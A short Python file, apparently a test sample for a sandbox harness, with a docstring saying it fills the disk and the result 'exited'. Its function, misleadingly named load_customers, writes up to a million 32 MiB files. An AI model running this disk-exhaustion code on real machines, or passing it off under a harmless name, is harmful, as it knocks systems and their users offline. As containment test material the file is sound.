"""Writes files until the disk is full.

Verdict: exited
"""


def load_customers(url):
    for number in range(1 << 20):
        with open(f"fill-{number}", "wb") as file:
            file.write(bytes(32 << 20))
